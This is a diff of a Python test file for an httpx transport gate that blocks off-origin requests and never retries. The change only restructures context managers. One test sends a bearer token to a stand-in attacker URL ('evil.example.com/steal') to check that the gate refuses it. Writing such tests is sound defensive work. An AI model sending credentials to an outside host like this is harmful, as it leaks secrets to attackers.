@@ -37,9 +37,9 @@ class Wire(httpx.BaseTransport):
 
 def test_a_request_to_another_origin_is_refused_before_it_reaches_the_wire() -> None:
     wire, paced = Wire(), list[httpx.Request]()
-    with httpx.Client(transport=Gate(wire, home=HOME, pace=paced.append)) as client:
-        with pytest.raises(OffOriginError) as caught:
-            client.get("https://evil.example.com/steal", headers={"Authorization": "Bearer t"})
+    client = httpx.Client(transport=Gate(wire, home=HOME, pace=paced.append))
+    with client, pytest.raises(OffOriginError) as caught:
+        client.get("https://evil.example.com/steal", headers={"Authorization": "Bearer t"})
     assert wire.sent == [] and paced == [], "nothing sent, and no pace spent on it"
     message = str(caught.value)
     assert "https://evil.example.com:443" in message and "https://pim.example.com:443" in message
@@ -87,9 +87,9 @@ def test_the_gate_never_sends_a_request_again(method: str) -> None:
         raise httpx.ReadError("reset", request=request)
 
     broken = Wire(cut)
-    with httpx.Client(transport=Gate(broken, home=HOME)) as client:
-        with pytest.raises(httpx.ReadError):
-            client.request(method, HOME, json={"sku": "A"})
+    client = httpx.Client(transport=Gate(broken, home=HOME))
+    with client, pytest.raises(httpx.ReadError):
+        client.request(method, HOME, json={"sku": "A"})
     assert len(broken.sent) == 1
 
 
